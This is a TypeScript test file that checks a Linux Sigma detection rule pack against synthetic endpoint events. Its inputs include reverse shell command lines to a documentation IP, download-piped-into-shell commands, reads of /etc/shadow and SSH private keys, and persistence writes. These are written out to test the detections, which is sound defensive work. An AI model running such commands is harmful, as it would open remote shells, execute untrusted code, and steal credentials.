// Vigil's own Sigma rule pack (rules/linux) against canonical rows as Vigil's Linux agent writes them.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createDetectionEngine, type DetectionInput } from './index.js';

const PACK = join(import.meta.dirname, '..', '..', 'rules', 'linux');

function engineWithPack() {
  const engine = createDetectionEngine();
  const files = readdirSync(PACK).filter((f) => f.endsWith('.yml'));
  // the correlation file also holds its two base rules (Sigma correlation spec: one file, several documents)
  const report = engine.load(files.map((f) => ({ file: join(PACK, f), text: readFileSync(join(PACK, f), 'utf8'), pack: 'vigil' })));
  return { engine, report, files };
}

const T0 = Date.parse('2026-11-28T10:00:00.000Z');
const ts = (s: number) => new Date(T0 + s * 1000).toISOString();
const proc = (image: string, cmd: string, s = 0, parent = '/usr/bin/bash'): DetectionInput => ({
  table: 'DeviceProcessEvents',
  row: { Timestamp: ts(s), DeviceName: 'laptop-7', ActionType: 'ProcessCreated', FolderPath: image, FileName: image.split('/').pop(), ProcessCommandLine: cmd, AccountName: 'alice', InitiatingProcessFolderPath: parent },
});
const file = (path: string, by: string, s = 0, action = 'FileCreated'): DetectionInput => ({
  table: 'DeviceFileEvents',
  row: { Timestamp: ts(s), DeviceName: 'laptop-7', ActionType: action, FolderPath: path, FileName: path.split('/').pop(), InitiatingProcessFolderPath: by },
});
const net = (image: string, ip: string, port: number, s = 0): DetectionInput => ({
  table: 'DeviceNetworkEvents',
  row: { Timestamp: ts(s), DeviceName: 'laptop-7', ActionType: 'ConnectionSuccess', RemoteIP: ip, RemotePort: port, InitiatingProcessFolderPath: image },
});
const fired = (engine: ReturnType<typeof createDetectionEngine>, input: DetectionInput) => engine.evaluate(input).map((m) => m.rule.title).sort();

test('every rule of the pack loads, with author and licence', () => {
  const { report, files } = engineWithPack();
  assert.deepEqual(report.failed, []);
  assert.equal(report.loaded, files.length + 2);
  for (const r of report.rules) {
    assert.equal(r.author, 'Vigil team', r.title);
    assert.equal(r.license, 'Apache-2.0', r.title);
    assert.equal(r.mapped, true, r.title);
  }
});

test('story: a binary launched from a USB stick drops a second stage in /tmp, runs it, and calls home', () => {
  const { engine } = engineWithPack();
  assert.deepEqual(fired(engine, proc('/media/alice/USB/invoice.pdf.bin', '/media/alice/USB/invoice.pdf.bin', 0)), ['Execution From Removable Media']);
  assert.deepEqual(fired(engine, file('/tmp/.x/agent', '/media/alice/USB/invoice.pdf.bin', 1)),
    ['Program On Removable Media Writes To A Temporary Folder']);
  assert.deepEqual(fired(engine, proc('/tmp/.x/agent', '/tmp/.x/agent --daemon', 2, '/media/alice/USB/invoice.pdf.bin')),
    ['Binary Dropped In A Temporary Folder And Executed', 'Execution From A Temporary Folder']);
  assert.deepEqual(fired(engine, net('/tmp/.x/agent', '198.51.100.7', 4444, 3)),
    ['Program From A Temporary Folder Connects To An Unusual Port', 'Program From A Temporary Folder Opens A Network Connection']);
  assert.deepEqual(fired(engine, file('/etc/cron.d/agent', '/tmp/.x/agent', 4)), ['Cron Job Written']);
});

test('the dropped-and-executed correlation needs the same path', () => {
  const { engine } = engineWithPack();
  engine.evaluate(file('/tmp/a', '/usr/bin/curl', 0));
  assert.deepEqual(fired(engine, proc('/tmp/b', '/tmp/b', 1)), ['Execution From A Temporary Folder']);
});

test('persistence: systemd unit, shell profile, authorized_keys', () => {
  const { engine } = engineWithPack();
  assert.deepEqual(fired(engine, file('/etc/systemd/system/updater.service', '/usr/bin/tee')), ['Systemd Unit Written']);
  assert.deepEqual(fired(engine, file('/home/alice/.config/systemd/user/x.timer', '/usr/bin/cp')), ['Systemd Unit Written']);
  assert.deepEqual(fired(engine, file('/etc/systemd/system/nginx.service', '/usr/bin/dpkg')), []);
  assert.deepEqual(fired(engine, file('/home/alice/.bashrc', '/usr/bin/python3', 0, 'FileModified')), ['Shell Profile Modified']);
  assert.deepEqual(fired(engine, file('/etc/profile.d/x.sh', '/usr/bin/cp')), ['Shell Profile Modified']);
  assert.deepEqual(fired(engine, file('/root/.ssh/authorized_keys', '/usr/bin/bash', 0, 'FileModified')), ['SSH Authorized Keys Modified']);
});

test('credential access: shadow and SSH private keys', () => {
  const { engine } = engineWithPack();
  assert.deepEqual(fired(engine, proc('/usr/bin/cat', 'cat /etc/shadow')), ['Password Hash File Read By A Command']);
  assert.deepEqual(fired(engine, proc('/usr/bin/passwd', 'passwd --stdin /etc/shadow')), []);
  assert.deepEqual(fired(engine, proc('/usr/bin/base64', 'base64 /home/bob/.ssh/id_ed25519')), ['SSH Private Key Read By A Command']);
  assert.deepEqual(fired(engine, proc('/usr/bin/cat', 'cat /home/bob/.ssh/id_ed25519.pub')), []);
  assert.deepEqual(fired(engine, proc('/usr/bin/ssh', 'ssh -i /home/bob/.ssh/id_rsa host')), []);
});

test('reverse shells and downloads piped into a shell', () => {
  const { engine } = engineWithPack();
  assert.deepEqual(fired(engine, proc('/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')), ['Reverse Shell Command Line']);
  assert.deepEqual(fired(engine, proc('/usr/bin/nc', 'nc 198.51.100.7 4444 -e /bin/sh ')), ['Reverse Shell Command Line']);
  assert.deepEqual(fired(engine, proc('/usr/bin/socat', 'socat tcp:198.51.100.7:4444 exec:/bin/bash')), ['Reverse Shell Command Line']);
  assert.deepEqual(fired(engine, proc('/usr/bin/sh', 'sh -c curl -fsSL https://x.example/i.sh | sh')), ['Download Piped Into A Shell']);
  assert.deepEqual(fired(engine, proc('/usr/bin/sh', 'sh -c wget -qO- http://x.example/a | sudo bash')), ['Download Piped Into A Shell']);
  assert.deepEqual(fired(engine, proc('/usr/bin/curl', 'curl -o out.tar.gz https://x.example/a.tgz')), []);
});

test('ordinary activity raises nothing', () => {
  const { engine } = engineWithPack();
  assert.deepEqual(fired(engine, proc('/usr/bin/ls', 'ls -la /home/alice')), []);
  assert.deepEqual(fired(engine, file('/home/alice/notes.txt', '/usr/bin/vim')), []);
  assert.deepEqual(fired(engine, net('/usr/bin/firefox', '93.184.216.34', 443)), []);
  assert.deepEqual(fired(engine, net('/tmp/dev-server', '127.0.0.1', 8080)), []);
});
